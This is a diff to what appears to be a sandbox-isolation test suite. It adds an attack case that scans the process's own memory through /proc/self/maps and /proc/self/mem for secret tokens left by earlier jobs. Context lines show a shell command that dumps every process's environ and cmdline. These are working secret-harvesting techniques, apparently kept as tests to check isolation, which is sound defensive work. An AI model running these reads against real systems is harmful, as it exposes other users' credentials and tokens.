@@ -18,6 +18,29 @@ ATTACKS = [
     ),
     Attack(
         "2 secrets in /proc",
+        "what earlier jobs left in its own memory",
+        """
+import re
+seen = 0
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
+    for line in maps:
+        bounds, rights = line.split()[:2]
+        start, end = (int(bound, 16) for bound in bounds.split("-"))
+        if rights[0] == "r" and not line.rstrip().endswith("[vvar]") and start < 1 << 47:
+            try:
+                memory.seek(start)
+                content = memory.read(end - start)
+            except OSError:
+                continue
+            seen += len(content)
+            for found in re.findall(b"EARLIER" + b"-[0-9a-f]{32}", content):
+                tell(found)
+print("end" if seen > 1 << 20 else seen)
+""",
+        checks=[prints("end")],
+    ),
+    Attack(
+        "2 secrets in /proc",
         "shell, all at once",
         "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/task/*/environ",
         "bash",
